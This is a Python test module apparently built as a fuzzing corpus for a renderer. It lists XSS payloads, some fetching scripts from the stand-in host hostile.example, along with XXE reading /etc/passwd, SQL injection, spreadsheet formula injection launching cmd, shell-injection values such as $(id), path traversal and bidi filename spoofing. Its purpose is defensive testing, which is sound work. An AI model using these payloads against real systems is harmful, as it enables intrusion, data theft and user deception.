"""Texts that somebody might put into an atlas to harm whoever opens what is made of it.

Each carries the marks by which a test notices that it came alive: a call of ``__hit`` where it is script, and the host
``hostile.example`` where it is fetched. All are written for this test, by class of attack.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product

CALL = "window.__hit=1"
HOST = "hostile.example"
URL = f"https://{HOST}/x"


@dataclass(frozen=True, slots=True)
class Payload:
    """A hostile text, and the class of attack that it belongs to."""

    kind: str
    text: str


def _markup() -> Iterator[str]:
    tags = [
        f"<script>{CALL}</script>", f"<ScRiPt >{CALL}</sCrIpT >", f"<script src={URL}></script>",
        f"<img src=x onerror={CALL}>", f"<img/src=x/onerror={CALL}>", f'<img src="{URL}">',
        f"<svg onload={CALL}>", f"<svg><script>{CALL}</script></svg>",
        f"<svg><animate onbegin={CALL} attributeName=x dur=1s>", f"<body onload={CALL}>",
        f"<iframe srcdoc='<script>parent.{CALL}</script>'>", f"<iframe src=javascript:{CALL}>",
        f"<object data={URL}>", f"<embed src={URL}>", f"<link rel=stylesheet href={URL}>",
        f"<meta http-equiv=refresh content='0;url={URL}'>", f"<base href={URL}>", f"<form action={URL}><button>",
        f"<video><source onerror={CALL}></video>", f"<details open ontoggle={CALL}>",
        f"<input autofocus onfocus={CALL}>", f"<style>@import '{URL}';</style>", f"<math><mtext><img src={URL}>",
        f"<xmp><img src={URL}>", f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
        "<plaintext>", "<textarea>", "<title>", "<select><option>", "<!--", "<![CDATA[", "<?xml version='1.0'?>",
        f"<template><script>{CALL}</script></template>", f"<a href={URL} ping={URL}>",
        f"<table background={URL}>", f"<p style=background:url({URL})>", f"<use href='data:image/svg+xml,{URL}'>",
    ]  # fmt: skip
    yield from tags
    before = ["</script>", "</style>", "</textarea></title>", "-->", "]]>", "</svg>", "</template>", '">', "'>"]
    yield from (f"{end}{tag}" for end, tag in product(before, [tags[0], tags[3], tags[14]]))


def _attributes() -> Iterator[str]:
    handlers = [f"onmouseover={CALL}", f"onfocus={CALL} autofocus tabindex=1", f"style=background:url({URL})"]
    quotes = ['"', "'", "`", '\\"', "&quot;", "&#34;", "\u2028", "\n"]
    yield from (f"x{quote} {handler} a={quote}" for quote, handler in product(quotes, handlers))


def _addresses() -> Iterator[str]:
    schemes = [
        "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "javascript&colon;",
        "\x01javascript:", "javascript://%0a", "vbscript:", "view-source:javascript:",
    ]  # fmt: skip
    yield from (f"{scheme}{CALL}" for scheme in schemes)
    yield from [
        f"data:text/html,<script>{CALL}</script>", f"data:text/html;base64,PHNjcmlwdD4={URL}",
        "file:///etc/passwd", f"//{HOST}/x", f"\\\\{HOST}\\share", f"https://news.example@{HOST}/",
        f"https://{HOST}:99999/", "https://[::1", f"{URL}?a=%00", f"https://news.example%2F@{HOST}/",
        "blob:https://news.example/1", "https://xn--/", f"https:{HOST}/x", f"[a](javascript:{CALL})",
        f"![a]({URL})", f"<{URL}>", f"[a]: {URL} 'b'", f"dateline:event/../../{HOST}",
    ]  # fmt: skip


def _scripts() -> Iterator[str]:
    yield from [
        f"'-({CALL})-'", f'"-({CALL})-"', f"`${{{CALL}}}`", f"\\'-({CALL})//", f'"}});{CALL};//', f"*/{CALL}/*",
        f"</script><script>{CALL}//", f"<!--<script>{CALL}", f"--></script><script>{CALL}</script>",
        f"\u2028{CALL}\u2029", f"\\u003cscript\\u003e{CALL}", f"\\x3cscript\\x3e{CALL}", "\\", "\\\\\"", '"]}', "{}}",
        '{"__proto__":{"polluted":1}}', "//# sourceMappingURL=" + URL, "<\\/script>", "</SCRIPT\n>",
    ]  # fmt: skip


def _templates() -> Iterator[str]:
    yield from [
        "{{ 7*7 }}", "{% for a in range(9) %}x{% endfor %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
        "{{ ''.__class__.__mro__ }}", "{{ self }}", "%(a)s", "%s%s%n", "{0}{a.__class__}", "$&$1$`", "{count, plural}",
        "{title}", "{", "}", "'{'", "\\N{BULLET}", "&lt;b&gt;", "&amp;amp;", "&#x3c;script&#x3e;", "&nbsp",
    ]  # fmt: skip


def _documents() -> Iterator[str]:
    yield from [
        '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "&b;", "&#0;", "&#xFFFF;", "<a xmlns='x'>",
        "]]><b>", "<?php echo 1 ?>", f"<xi:include href='{URL}'/>", f"<?xml-stylesheet href='{URL}'?>",
        f"url({URL})", "}a{color:red}", f"</style><img src={URL}>", f"@import url({URL});", f"expression({CALL})",
        "/*", "*/", ";color:red", "\\0000", f"%PDF-1.4 /URI ({URL})", ") Tj ET",
        "'); DROP TABLE events; --", "' OR 1=1",
        "# a", "> a", "```", "* * *", "---\nmap: other\n---", ":::", '"""', "'''", "[[event]]", "key = 'x'",
    ]  # fmt: skip


def _formulas() -> Iterator[str]:
    signs = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", " =", '"=', "'="]
    yield from (f'{sign}HYPERLINK("{URL}")' for sign in signs)
    yield from ["=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", '=IMPORTXML("x","y")', '=1+1","=1+1', "a\n=1+1"]


def _signs() -> Iterator[str]:
    for sign in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u061c\u200e\u200f":
        yield f"a{sign}b gnp.exe"
    for sign in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u3164\u115f":
        yield f"a{sign}b"
    yield from [
        "\u05d0\u05d1 \u0639\u0631\u0628 abc 123", "a" + "\u0301" * 200, "\u0e49" * 100,
        "\U0001f468\u200d\U0001f469",
        "\U000e0041\U000e0042", "\ufdd0\uffff", "\U0010ffff", "\ufffe", "\ufff9a\ufffab\ufffb", "\u0085\u000b\u000c",
        "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;" + URL + "\x1b\\link", "\x9b2J", "\x07\x08\x7f",
        "a\rb", "a\r\nb\n\nc",
        "\x00", "a\x00b", "\u2029\u2028",
    ]  # fmt: skip


def _sizes() -> Iterator[str]:
    yield from [
        "x" * 5_000, "x " * 2_500, "\u4e2d" * 3_000, "<" * 3_000, "&" * 3_000, '"' * 3_000, "(" * 3_000, "[" * 3_000,
        "\n" * 2_000 + "a", "9" * 400, "1e999", "-0", "NaN", "Infinity", "0x7fffffff", "1" + "0" * 40, "W" * 300,
    ]  # fmt: skip


def _names() -> Iterator[str]:
    yield from [
        "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "__class__", "undefined",
        "null",
        "true", "../../../../etc/passwd", "..\\..\\win.ini", "/dev/null", "C:\\con", "aux.html",
        "a\x00.png", ".htaccess",
        "~root", "$HOME", "`id`", "$(id)", "; id", "| id", "--help", "-rf", "%2e%2e%2f", "a/b", "*", "?", "CON",
        " ", "\t",
    ]  # fmt: skip


CLASSES = {
    "markup": _markup,
    "attribute": _attributes,
    "address": _addresses,
    "script": _scripts,
    "template": _templates,
    "document": _documents,
    "formula": _formulas,
    "sign": _signs,
    "size": _sizes,
    "name": _names,
}
PAYLOADS = tuple(Payload(kind, text) for kind, texts in CLASSES.items() for text in dict.fromkeys(texts()))
